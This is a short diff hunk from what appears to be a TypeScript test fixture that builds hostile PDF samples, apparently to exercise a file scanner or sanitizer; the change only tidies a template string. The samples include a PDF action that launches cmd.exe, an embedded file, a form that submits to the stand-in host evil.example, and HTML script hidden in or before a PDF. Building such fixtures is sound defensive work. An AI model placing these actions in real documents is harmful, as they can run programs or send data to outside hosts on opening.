@@ -95,7 +95,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     document('pdf that launches a program', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')),
     document('pdf that carries a file', pdf('/Names<</EmbeddedFiles 2 0 R>>')),
     document('pdf with a form that sends', pdf('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')),
-    document('pdf with a page in it', pdf(`(${`<html>${script}</html>`})`)),
+    document('pdf with a page in it', pdf(`(<html>${script}</html>)`)),
     document('pdf behind a page', `<html>${script}</html>\n%PDF-1.7\n%%EOF`),
     document('pdf without an end', '%PDF-1.7\n1 0 obj<<>>endobj\n'),
     document(
